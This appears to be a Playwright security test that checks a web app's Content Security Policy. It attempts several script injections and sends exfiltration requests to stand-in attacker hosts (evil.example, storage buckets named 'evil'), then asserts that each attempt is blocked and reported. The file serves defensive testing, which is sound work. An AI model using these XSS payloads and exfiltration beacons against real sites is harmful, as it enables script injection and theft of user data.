import { expect, test } from './fixtures.ts'

/** Whether the browser lets text become what runs; `ran` is set where it has. */
const injections = () => {
  const attempt = (inject: () => unknown): string => {
    try {
      inject()
      return 'allowed'
    } catch (error) {
      return error instanceof TypeError ? 'refused' : String(error)
    }
  }
  const script = (fill: (element: HTMLScriptElement) => void) => {
    const element = document.createElement('script')
    fill(element)
    document.head.append(element)
  }
  return {
    markup: attempt(() => (document.createElement('div').innerHTML = '<img src="x" onerror="ran = 1">')),
    text: attempt(() => script((element) => (element.textContent = 'ran = 1'))),
    foreign: attempt(() => script((element) => (element.src = 'https://evil.example/x.js'))),
    callback: attempt(() =>
      script((element) => (element.src = 'https://apis.google.com/complete/search?callback=ran')),
    ),
    data: attempt(() => script((element) => (element.src = 'data:text/javascript,ran=1'))),
    api: attempt(() => script((element) => (element.src = '/api/trips'))),
    plain: attempt(() => (document.createElement('style').innerHTML = 'p > a { color: red }')),
  }
}

const image = (address: string) =>
  new Promise<string>((resolve) => {
    const picture = new Image()
    picture.addEventListener('load', () => resolve('loaded'))
    picture.addEventListener('error', () => resolve('failed'))
    picture.src = address
  })

const put = (address: string) =>
  fetch(address, { method: 'PUT', body: 'secret' }).then(
    ({ status }) => `answered ${status}`,
    () => 'failed',
  )

test('what is injected into a page runs nothing and carries nothing out, and the server hears that something tried', async ({
  traveller: page,
  errors,
}) => {
  errors.allow(/Content Security Policy|Trusted|net::ERR|status of 415/i)
  const reached: string[] = []
  for (const host of ['evil.example', 'apis.google.com', 'firebasestorage.googleapis.com', 'www.googleapis.com']) {
    await page.context().route(`https://${host}/**`, async (route) => {
      reached.push(route.request().url())
      await route.fulfill({ body: 'window.ran = 1', headers: { 'access-control-allow-origin': '*' } })
    })
  }
  const reports: string[] = []
  page.on('request', (request) => {
    if (request.url().endsWith('/api/fault-reports')) reports.push(request.postData() ?? '')
  })
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  expect(await page.evaluate(injections)).toEqual({
    markup: 'refused',
    text: 'refused',
    foreign: 'refused',
    callback: 'refused',
    data: 'refused',
    api: 'refused',
    plain: 'allowed',
  })
  expect(await page.evaluate(image, 'https://evil.example/beacon?secret')).toBe('failed')
  expect(await page.evaluate(put, 'https://firebasestorage.googleapis.com/v0/b/evil/o?name=x')).toBe('failed')
  expect(await page.evaluate(put, 'https://www.googleapis.com/upload/storage/v1/b/evil/o')).toBe('failed')
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(reached).toEqual([])
  await expect.poll(() => reports.join()).toContain('"code":"img-src"')
  expect(reports.join()).not.toContain('evil')

  // The allowed twins.
  expect(await page.evaluate(image, '/icon.svg')).toBe('loaded')
  expect(await page.evaluate(put, '/api/profile')).toMatch(/^answered/)
})
